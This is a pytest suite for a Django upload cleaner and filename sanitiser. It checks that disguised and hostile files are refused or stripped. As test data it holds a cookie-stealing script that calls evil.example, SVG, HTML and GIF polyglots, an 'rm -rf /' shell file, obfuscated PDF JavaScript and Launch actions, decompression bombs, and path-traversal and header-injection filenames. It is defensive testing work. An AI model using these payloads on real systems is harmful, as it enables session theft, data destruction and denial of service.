"""Files that are not what they say: refused with a sentence and nothing kept, or made harmless."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from core.documents.services import _clean, _safe_name
from core.errors import DomainError

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def picture(kind="JPEG", size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def wide_png(width, height):
    """A picture of a few hundred bytes that says it is huge."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)

    def part(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def zipped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"0" * 5_000_000)
    return out.getvalue()


PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
HOSTILE = {
    "a picture that is a script": (b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "a.svg"),
    "the same under another name": (b'<?xml version="1.0"?><svg>' + SCRIPT + b"</svg>", "a.jpg"),
    "a page": (b"<!doctype html>" + SCRIPT, "a.jpg"),
    "a page that says it is a picture": (b"GIF89a/*" + SCRIPT + b"*/=1;", "a.gif"),
    "a program": (b"MZ" + b"\0" * 200, "a.jpg"),
    "another program": (b"\x7fELF" + b"\0" * 200, "a.pdf"),
    "a shell": (b"#!/bin/sh\nrm -rf /\n", "a.png"),
    "an archive": (zipped(), "a.pdf"),
    "nothing": (b"", "a.jpg"),
    "only a head": (b"\xff\xd8\xff\xe0", "a.jpg"),
    "a cut picture": (picture()[:200], "a.jpg"),
    "a picture of 900 megapixels": (wide_png(30_000, 30_000), "a.png"),
    "a picture of four thousand million": (wide_png(65_000, 65_000), "a.png"),
    "a paper with a script": (PDF + b"<< /S /JavaScript /JS (app.alert(1)) >>", "a.pdf"),
    "a paper with a script, spelled oddly": (PDF + b"<< /S /Java#53cript >>", "a.pdf"),
    "a paper that starts a program": (PDF + b"<< /S /L#61unch >>", "a.pdf"),
    "a paper that opens by itself": (PDF + b"<< /OpenAction 1 0 R >>", "a.pdf"),
    "a paper with a file in it": (PDF + b"<< /Type /EmbeddedFile >>", "a.pdf"),
    "eleven megabytes": (PDF + b"0" * 11_000_000, "a.pdf"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_is_not_a_plain_paper_is_refused(kind):
    content, name = HOSTILE[kind]
    with pytest.raises(DomainError) as told:
        _clean(SimpleUploadedFile(name, content, "image/jpeg"))
    assert told.value.code.startswith("file_")


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_what_hangs_on_a_picture_does_not_come_in(kind):
    content, media_type = _clean(SimpleUploadedFile("a.jpg", picture(kind) + SCRIPT + zipped(), "text/html"))
    assert media_type == "image/jpeg"
    assert b"script" not in content
    assert b"PK\x03\x04" not in content


def test_a_plain_paper_comes_in():
    """The control."""
    assert _clean(SimpleUploadedFile("a.pdf", PDF)) == (PDF, "application/pdf")


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/cron.d/x",
        "a\0.jpg",
        "x.php",
        "x.jpg.html",
        "a\r\nSet-Cookie: b=1.jpg",
        "\u202egpj.exe",
        "x" * 5000,
        "   ",
        "..",
        '"><img src=x>.jpg',
    ],
)
def test_a_name_stays_a_name(name):
    kept = _safe_name(name, "image/jpeg")
    assert kept.endswith(".jpg")
    assert len(kept) <= 130
    assert all(part not in kept for part in ("/", "\\", "\0", "\r", "\n", "\u202e"))
    assert not kept.startswith("..")
